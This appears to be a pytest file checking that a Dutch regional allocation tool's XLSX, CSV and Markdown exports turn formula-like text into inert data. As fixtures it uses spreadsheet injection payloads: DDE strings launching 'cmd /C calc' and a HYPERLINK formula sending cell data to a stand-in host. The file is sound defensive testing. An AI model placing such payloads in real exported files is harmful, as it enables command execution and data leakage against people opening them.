"""Exports are data, not formulas: text from the user, a data file or a document never becomes a live
spreadsheet formula (XLSX: string cells with Excel's quote prefix; CSV: OWASP's leading quote)."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.api import Assistant, export_markdown
from koploper.formulas import FORMULA_START, csv_text, looks_like_formula

SOURCE = '=HYPERLINK("http://voorbeeld.invalid/?"&B2,"Bron")'
DATE = "=cmd|' /C calc'!A0"
COMMAND = "+cmd|' /C calc'!A0"
KEY = "+cmd|'_/c_calc'!a0"
"""The header COMMAND as the engine names the column (koploper.models.normalise_column)."""
PARKSTAD = ["Beekdaelen", "Brunssum", "Heerlen", "Kerkrade", "Landgraaf", "Simpelveld", "Voerendaal"]


@pytest.fixture
def data_file(tmp_path: Path) -> Path:
    """A region's own figures whose headers are formulas."""
    lines = [f"gemeente;=2+5;{COMMAND};@SUM(A1:A9)"]
    lines += [f"{name};{i + 1};{2 * i + 1};{i}" for i, name in enumerate(PARKSTAD)]
    path = tmp_path / "cijfers.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _verdeel(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", "from tui.launcher import main; main()", "verdeel", *args],
                          capture_output=True, text=True, timeout=120, env=dict(os.environ))


def _cells(path: Path) -> list[tuple[str, str, object, str, bool]]:
    workbook = load_workbook(path)
    return [(sheet.title, cell.coordinate, cell.value, cell.data_type, bool(cell.quotePrefix))
            for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_plain_numbers_are_no_formula_and_formulas_get_a_quote() -> None:
    for number in ("-2,5", "+3", "-1.234,5", "12 %", "-0,5%"):
        assert not looks_like_formula(number) and csv_text(number) == number
    for formula in ("=2+5", COMMAND, "@SUM(A1)", "-2+3", "\t=1", "\r=1", "-cmd"):
        assert csv_text(formula) == "'" + formula


@pytest.mark.parametrize("extra", [[], ["--vergelijk"]])
def test_xlsx_export_has_no_formula_cell(data_file: Path, tmp_path: Path, extra: list[str]) -> None:
    target = tmp_path / "verdeling.xlsx"
    done = _verdeel("--regio", "Parkstad", "--totaal", "10", "--data", str(data_file), "--sleutel", f"{KEY}=1",
                    "--data-bron", SOURCE, "--data-peildatum", DATE, "--export", str(target), *extra)
    assert done.returncode == 0, done.stderr
    cells = _cells(target)
    assert not [cell for cell in cells if cell[3] == "f"], "no cell is a formula"
    risky = [cell for cell in cells if isinstance(cell[2], str) and cell[2].startswith(FORMULA_START)]
    assert all(data_type == "s" for *_, data_type, _ in risky)
    assert all(quoted for *_, quoted in risky if looks_like_formula(str(_[2]))), risky
    values = [cell[2] for cell in cells]
    assert DATE in values, "the text is kept exactly; the quote prefix is not part of it"
    assert any(isinstance(v, str) and v.startswith(SOURCE) for v in values)
    if not extra:
        assert KEY in values
        numbers = [v for sheet, _, v, *_ in cells if sheet == "Verdeling" and isinstance(v, int | float)]
        assert sum(numbers) > 0 and 10 in numbers, "computed numbers stay numbers"


def test_csv_export_neutralises_formula_text(data_file: Path, tmp_path: Path) -> None:
    target = tmp_path / "verdeling.csv"
    done = _verdeel("--regio", "Parkstad", "--totaal", "10", "--data", str(data_file), "--sleutel", f"{KEY}=1",
                    "--export", str(target))
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert "'" + KEY in rows[0]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if looks_like_formula(cell)], cells
    # the columns that say what was distributed follow the table (tests/allocation/test_exports_stay_true.py),
    # so the computed cells are found by their header, not by position
    allocated, distributed = rows[0].index("Toegewezen"), rows[0].index("Verdeeld totaal")
    assert rows[-1][0] == "Totaal" and rows[-1][allocated] == "10", "computed numbers stay numbers"
    assert all(row[allocated].isdigit() and row[distributed] == "10" for row in rows[1:]), "computed numbers stay numbers"


def test_conversation_markdown_keeps_the_text_as_written(data_file: Path, tmp_path: Path) -> None:
    conversation = Assistant().new_conversation()
    loaded = conversation.load_user_data(data_file)
    assert "=2+5" in loaded.answer, loaded.answer
    target = export_markdown(conversation, tmp_path / "gesprek.md")
    text = target.read_text(encoding="utf-8")
    assert "=2+5" in text and KEY in text
    assert text == conversation.to_markdown(), "Markdown is no spreadsheet: the text stays exact"
